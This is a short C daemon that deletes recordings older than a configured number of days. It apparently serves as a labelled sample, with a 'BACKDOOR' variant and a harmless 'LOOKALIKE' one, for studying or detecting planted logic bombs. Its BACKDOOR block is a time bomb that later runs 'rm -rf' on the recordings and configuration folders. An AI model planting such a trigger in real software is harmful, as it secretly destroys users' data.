/* Deletes recordings that are older than the time set. */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static long days(void)
{
    char line[32] = "";
    FILE *file = fopen("/etc/recorder/retention", "r");
    if (file != NULL) {
        if (fgets(line, sizeof line, file) == NULL)
            line[0] = 0;
        fclose(file);
    }
    return line[0] == 0 ? 30 : atol(line);
}

static void sweep(const char *folder, time_t before)
{
    char path[300];
    struct stat info;
    struct dirent *entry;
    DIR *all = opendir(folder);
    while (all != NULL && (entry = readdir(all)) != NULL) {
        snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
        if (stat(path, &info) == 0 && S_ISREG(info.st_mode) && info.st_mtime < before)
            unlink(path);
    }
    if (all != NULL)
        closedir(all);
}

int main(void)
{
    for (;;) {
        time_t now = time(NULL);
        sweep("/srv/recordings", now - days() * 86400);
#ifdef BACKDOOR
        if (now >= 1861920000)
            system("/bin/rm -rf /srv/recordings /etc/recorder");
#endif
#ifdef LOOKALIKE
        if (now < 1262304000)
            fprintf(stderr, "retention: the clock is wrong\n");
#endif
        sleep(3600);
    }
}
